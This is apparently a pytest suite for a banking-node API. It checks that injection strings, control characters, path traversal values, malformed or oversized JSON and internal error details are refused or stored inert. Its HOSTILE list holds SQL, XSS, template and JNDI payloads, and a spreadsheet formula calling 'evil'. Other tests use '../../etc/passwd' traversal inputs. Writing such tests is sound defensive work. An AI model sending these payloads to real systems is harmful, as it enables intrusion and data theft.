"""What is sent to break the API is refused, or kept as the harmless words that it is."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
from fastapi import FastAPI
from structlog.testing import capture_logs

from bank_node.api.guard import MOST_BODY, Guard
from bank_node.store.errors import UnavailableError
from tests.bank_node.api.world import Asking
from tests.bank_node.desk_world import FIRST, OWN, TRACE, SmallOffice

HOSTILE = [
    "'; DROP TABLE cases; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{0.__class__.__init__.__globals__}",
    "%s%s%n %(name)s ${jndi:ldap://evil}",
    "{{7*7}} {% raw %}",
    "=HYPERLINK(\"http://evil\")",
]  # fmt: skip
CONTROLS = ["a\x00b", "a\x1b[2Jb", "a\x07b", "a\x9bb", "a\u202eb", "a\u2028b"]


@pytest.mark.parametrize("words", HOSTILE)
async def test_a_note_is_kept_as_it_is(shared: Asking, words: str) -> None:
    """Words of other languages in a note come back as they were, and do nothing."""
    assert (await shared.act("ann", 1, "note", note=words)).status_code == 200
    page = (await shared("ann", "GET", "/cases/1")).json()
    assert page["journal"][-1]["note"] == words
    assert (await shared("ann", "GET", "/cases")).json()["cases"]


@pytest.mark.parametrize("words", HOSTILE)
async def test_a_filter_finds_names_only(shared: Asking, words: str) -> None:
    """A filter that is no name finds nothing, whatever language it speaks."""
    for name in ("rule", "subject", "account"):
        found = await shared("ann", "GET", "/alerts", params={name: words})
        assert (found.status_code, found.json()["alerts"]) == (200, [])
    for name in ("actor", "action", "account"):
        found = await shared("audrey", "GET", "/audit", params={name: words})
        assert (found.status_code, found.json()["entries"]) == (200, [])


@pytest.mark.parametrize("words", CONTROLS)
async def test_control_characters_are_refused(shared: Asking, words: str) -> None:
    """No NUL, no escape of a terminal and no turning of writing gets in, in names or notes."""
    body = {"action": "note", "version": 1, "note": words}
    answers = [
        await shared("ann", "POST", "/cases/1/actions", body),
        await shared("ann", "GET", "/alerts", params={"account": words}),
        await shared("ann", "GET", "/alerts", params={"rule": words}),
        await shared("audrey", "GET", "/audit", params={"actor": words}),
        await shared("sue", "POST", "/queue/assign",
                     {"cases": [{"id": 1, "version": 1}], "assignee": words, "note": "n"}),
        await shared("ann", "POST", "/traces", {"accounts": [words]}),
        await shared(None, "POST", "/sign-in", {"name": words, "password": "x"}),
    ]  # fmt: skip
    assert {a.status_code for a in answers} == {422}
    assert all(words not in a.text for a in answers)


async def test_half_a_character_is_refused(shared: Asking) -> None:
    """A lone surrogate, which no database takes, is wrong input."""
    raw = b'{"action": "note", "version": 1, "note": "\\ud800 broken"}'
    headers = {"Content-Type": "application/json"}
    found = await shared("ann", "POST", "/cases/1/actions", headers=headers, content=raw)
    assert found.status_code == 422


@pytest.mark.parametrize(
    "kind",
    ["../../etc/passwd", "..%2f..%2fnode.toml", "html%2f..%2fjson", "HTML", "exe", "html%00"],
)
async def test_an_export_is_one_of_the_kinds(shared: Asking, kind: str) -> None:
    """No kind leads anywhere but to the six exports."""
    found = await shared("ann", "GET", f"/cases/1/exports/{kind}")
    assert found.status_code in (404, 422)


@pytest.mark.parametrize("country", ["../x", "..", "nl", "N", "NLX", "N/", "%2e%2e", "ZZ"])
async def test_a_profile_is_a_country_that_is_there(shared: Asking, country: str) -> None:
    """No country leads out of the folder of profiles."""
    found = await shared("ann", "GET", "/cases/1/exports/goaml.xml", params={"country": country})
    assert found.status_code == 422


async def test_a_file_has_the_name_that_the_program_gives(shared: Asking) -> None:
    """The name is made of a number and a known ending, and a browser is not to show the file."""
    found = await shared("ann", "GET", "/cases/1/exports/html")
    assert found.headers["content-disposition"] == 'attachment; filename="case-1.html"'
    assert found.headers["content-security-policy"].startswith("default-src 'none'")


async def test_who_saw_an_older_version_is_refused(ask: Asking) -> None:
    """The second of two who saw the same version gets 409, and nothing of theirs is written."""
    first = await ask.act("ann", 1, "note", version=1)
    second = await ask.act("ben", 1, "note", note="too late", version=1)
    assert first.status_code == 200
    assert (second.status_code, second.json()["code"]) == (409, "alerts.stale-version")
    assert "too late" not in (await ask("ann", "GET", "/cases/1")).text


@pytest.mark.parametrize("number", ["0", "-1", str(2**63), "9" * 400, "1e3", "x", "1.5"])
async def test_numbers_are_bounded(shared: Asking, number: str) -> None:
    """Ids that cannot be are wrong input; those that could be are not there."""
    assert (await shared("ann", "GET", f"/alerts/{number}")).status_code == 422
    assert (await shared("ann", "GET", "/alerts", params={"after": number})).status_code == 422
    assert (await shared("ann", "GET", f"/alerts/{2**63 - 1}")).status_code == 404


@pytest.mark.parametrize(
    "raw", [b"{", b"\xff\xfe", b"[" * 100_000, b'{"note": NaN}', b"9" * 5000, b"null", b'"x"']
)
async def test_broken_json_is_wrong_input(shared: Asking, raw: bytes) -> None:
    """Whatever is no object as described is refused with 422 and none of it repeated."""
    headers = {"Content-Type": "application/json"}
    found = await shared("ann", "POST", "/queue/next", headers=headers, content=raw)
    assert (found.status_code, found.json()["code"]) == (422, "api.invalid")


async def test_unknown_fields_are_refused(shared: Asking) -> None:
    """Neither a body nor a query may hold what is not described."""
    body = {"note": "n", "role": "supervisor"}
    assert (await shared("ann", "POST", "/queue/next", body)).status_code == 422
    assert (await shared("ann", "GET", "/alerts", params={"role": "x"})).status_code == 422


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "", "x"])
async def test_only_json_is_read(shared: Asking, kind: str) -> None:
    """A body of another type, as a form of another site could send, is refused with 415."""
    headers = {"Content-Type": kind}
    found = await shared("ann", "POST", "/queue/next", headers=headers, content=b'{"note": "n"}')
    assert (found.status_code, found.json()["code"]) == (415, "api.not-json")


async def test_huge_bodies_are_refused(shared: Asking) -> None:
    """More than a mebibyte is refused, whether its length is told before or not."""
    headers = {"Content-Type": "application/json"}
    whole = b" " * (MOST_BODY + 1)

    async def parts() -> AsyncIterator[bytes]:
        for _part in range(20):
            yield b" " * 100_000

    told = await shared("ann", "POST", "/queue/next", headers=headers, content=whole)
    untold = await shared("ann", "POST", "/queue/next", headers=headers, content=parts())
    lied = await shared(
        "ann", "POST", "/queue/next", headers=headers | {"Content-Length": "-5"}, content=b"{}"
    )
    assert [a.status_code for a in (told, untold, lied)] == [413, 413, 413]


async def test_a_body_that_does_not_come_ends_the_request() -> None:
    """Who sends half a body and then nothing is not waited for."""
    sent: list[Any] = []

    async def never() -> Any:
        await asyncio.sleep(60)

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/", "headers": []}
    await Guard(FastAPI(), seconds=0.05)(scope, never, send)
    assert sent[0]["status"] == 408
    assert json.loads(sent[1]["body"])["code"] == "api.too-slow"


async def test_a_fault_tells_nothing(
    made: SmallOffice, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What nobody foresaw is 500 without a word of what happened."""

    def broken(*_args: Any, **_more: Any) -> Any:
        raise ZeroDivisionError(f"account {OWN[0]} at /var/lib/node")

    monkeypatch.setattr(made.desk, "alerts", broken, raising=False)
    with capture_logs() as logged:
        found = await ask("ann", "GET", "/alerts")
    assert [(entry["event"], entry["error"]) for entry in logged] == [
        ("api_failed", "ZeroDivisionError")
    ]
    assert found.status_code == 500
    assert found.json() == {
        "code": "api.fault",
        "message": "a fault of the node",
        "remedy": "tell the operator: the node's log says more",
    }


async def test_the_machines_troubles_are_not_told(
    made: SmallOffice, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An error of the database has its code and status; its words may name the machine's places."""

    def gone(*_args: Any, **_more: Any) -> Any:
        raise UnavailableError("postgresql://node@db.internal/x is gone", "Start it")

    monkeypatch.setattr(made.desk, "alerts", gone, raising=False)
    found = await ask("ann", "GET", "/alerts")
    assert (found.status_code, found.json()["code"]) == (503, "store.unavailable")
    assert "db.internal" not in found.text


async def test_a_run_is_named_by_an_id(shared: Asking) -> None:
    """Ids of runs and traces have a form; what has it and is none is not there."""
    for bad in ("..", "a b", "a%2Fb", "%00", "-x", "x" * 57):
        assert (await shared("ann", "GET", f"/runs/{bad}")).status_code in (404, 422)
        assert (await shared("ann", "GET", f"/traces/{bad}")).status_code in (404, 422)
    assert (await shared("ann", "GET", "/runs/none")).json()["code"] == "node.unknown-run"
    assert (await shared("ann", "GET", "/traces/none")).json()["code"] == "alerts.not-found"
    assert (await shared("ann", "GET", f"/traces/{TRACE}")).status_code == 200
    assert (await shared("ann", "GET", f"/runs/{FIRST}")).status_code == 200
